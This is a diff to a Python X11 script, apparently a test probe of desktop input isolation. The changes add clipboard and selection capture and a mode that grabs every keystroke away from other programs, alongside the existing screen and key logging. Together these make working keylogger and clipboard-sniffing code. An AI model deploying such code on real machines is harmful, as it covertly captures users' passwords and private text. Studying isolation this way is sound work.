@@ -1,8 +1,9 @@
 """A program that writes down what it sees of the screen and the keyboard.
 
 Usage: python3 spy.py FILE MODE; further arguments are ignored. The system's Python runs it, inside
-a desktop. It writes a line for each picture of the screen ("image"), each key ("key NAME") and,
-four times a second, "alive".
+a desktop. It writes a line for each picture of the screen ("image"), each key ("key NAME"), each
+text of a selection ("text TEXT") and, four times a second, "alive". The mode "every" is all ways to
+listen at once, and "steal" those that take the keys from other programs, too.
 """
 
 import ctypes
@@ -37,12 +38,18 @@ x11.XInternAtom.restype = c_ulong
 x11.XChangeProperty.argtypes = [
     *(c_void_p, c_ulong, c_ulong, c_ulong, c_int, c_int, c_void_p, c_int),
 ]
+x11.XConvertSelection.argtypes = [c_void_p, c_ulong, c_ulong, c_ulong, c_ulong, c_ulong]
+x11.XGetWindowProperty.argtypes = [c_void_p, c_ulong, c_ulong, c_long, c_long, c_int, c_ulong]
+x11.XGetWindowProperty.argtypes += [c_void_p] * 5
+x11.XGrabKey.argtypes = [c_void_p, c_int, c_uint, c_ulong, *[c_int] * 3]
 xtst.XRecordAllocRange.restype = c_void_p
 xtst.XRecordCreateContext.restype = c_ulong
 
 KEY_PRESS, GENERIC = 2, 35
 ALL_PLANES, Z_PIXMAP = c_ulong(-1).value, 2
-XI_RAW_KEY_PRESS, ALL_MASTER_DEVICES = 13, 1
+XI_KEY_PRESS, XI_RAW_KEY_PRESS, ALL_MASTER_DEVICES = 2, 13, 1
+SELECTION_NOTIFY, SELECTIONS = 31, (b"PRIMARY", b"CLIPBOARD")
+ANY_MODIFIER, ASYNC = 1 << 15, 1
 
 
 class InterceptData(Structure):
@@ -81,6 +88,7 @@ class Spy:
         self.root = c_ulong(x11.XDefaultRootWindow(self.display))
         self.reports: list[tuple[c_void_p, Callable[[], object]]] = []
         self.pressed: set[int] = set()
+        self.own = c_ulong(x11.XCreateSimpleWindow(self.display, self.root, 0, 0, 9, 9, 0, 0, 0))
 
     def note(self, line: str) -> None:
         print(line, file=self.file)
@@ -130,20 +138,30 @@ class Spy:
     def raw(self) -> None:
         version = (c_int(2), c_int(0))
         xi.XIQueryVersion(self.display, byref(version[0]), byref(version[1]))
-        bits = (ctypes.c_ubyte * 4)()
-        bits[XI_RAW_KEY_PRESS // 8] |= 1 << XI_RAW_KEY_PRESS % 8
-        mask = Mask(ALL_MASTER_DEVICES, 4, ctypes.cast(bits, c_void_p))
-        xi.XISelectEvents(self.display, self.root, byref(mask), c_int(1))
+        self.select(self.root.value, XI_RAW_KEY_PRESS)
         self.reports.append((self.display, self._events))
 
-    def windows(self) -> None:
-        """Select the keys of every window."""
+    def select(self, window: int, event: int) -> None:
+        """Select events of a window by the X Input Extension."""
+        bits = (ctypes.c_ubyte * 4)()
+        bits[event // 8] |= 1 << event % 8
+        mask = Mask(ALL_MASTER_DEVICES, 4, ctypes.cast(bits, c_void_p))
+        xi.XISelectEvents(self.display, c_ulong(window), byref(mask), c_int(1))
+
+    def windows(self, event: int = 0) -> None:
+        """Select the keys of every window, by the X Input Extension if ``event`` is given.
+
+        Then the server does not report them as core events to the window's owner.
+        """
         x11.XQueryTree.argtypes = [c_void_p, c_ulong, *[c_void_p] * 4]
         todo, seen = [self.root.value], set()
         while todo:
             window = todo.pop()
             seen.add(window)
             x11.XSelectInput(self.display, window, 1)
+            # A client has one mask for a window, and the root window's is for raw events.
+            if event and window != self.root.value:
+                self.select(window, event)
             root, parent, count, children = c_ulong(), c_ulong(), c_uint(), POINTER(c_ulong)()
             if x11.XQueryTree(self.display, window, *map(byref, (root, parent, children, count))):
                 todo += [children[i] for i in range(count.value) if children[i] not in seen]
@@ -159,9 +177,32 @@ class Spy:
                 self.key(ctypes.cast(event, POINTER(c_uint))[21])
             generic = GenericEvent.from_buffer(event)
             if event[0] & 127 == GENERIC and x11.XGetEventData(self.display, byref(event)):
-                if generic.kind == XI_RAW_KEY_PRESS and generic.data:
+                if generic.kind in (XI_KEY_PRESS, XI_RAW_KEY_PRESS) and generic.data:
                     self.key(ctypes.cast(generic.data, POINTER(RawEvent))[0].detail)
                 x11.XFreeEventData(self.display, byref(event))
+            if event[0] & 127 == SELECTION_NOTIFY:
+                self._received()
+
+    def grab(self) -> None:
+        """Grab each key of the root window."""
+        for code in range(8, 256):
+            x11.XGrabKey(self.display, code, ANY_MODIFIER, self.root, 0, ASYNC, ASYNC)
+
+    def selections(self) -> None:
+        """Ask for the texts of the selections; the answers are events."""
+        for name in SELECTIONS:
+            selection, kind = (x11.XInternAtom(self.display, one, 0) for one in (name, b"STRING"))
+            x11.XConvertSelection(self.display, selection, kind, selection, self.own, 0)
+        x11.XFlush(self.display)
+
+    def _received(self) -> None:
+        kind, shape, length, left, data = c_ulong(), c_int(), c_ulong(), c_ulong(), c_char_p()
+        for name in SELECTIONS:
+            held = x11.XInternAtom(self.display, name, 0)
+            where = (self.display, self.own, held, 0, 1000, 1, 0)
+            x11.XGetWindowProperty(*where, *map(byref, (kind, shape, length, left, data)))
+            if data.value:
+                self.note(f"text {data.value.decode(errors='replace')}")
 
     def window(self, tray: bool) -> None:
         """Own a window, or what a panel embeds as a tray icon."""
@@ -200,11 +241,14 @@ def main() -> None:
         spy.stolen()
     if mode in ("window", "tray"):
         spy.window(mode == "tray")
-    if mode == "windows":
-        spy.windows()
-    else:
+    every = mode in ("every", "steal")
+    if every or mode == "windows":
+        spy.windows(XI_KEY_PRESS if mode == "steal" else 0)
+    if mode != "windows":
         spy.record()
         spy.raw()
+    if mode == "steal":
+        spy.grab()
     spy.note("ready")
     last = 0.0
     while True:
@@ -216,6 +260,8 @@ def main() -> None:
             last = time.monotonic()
             spy.note("alive")
             spy.image()
+            if every:
+                spy.selections()
 
 
 main()
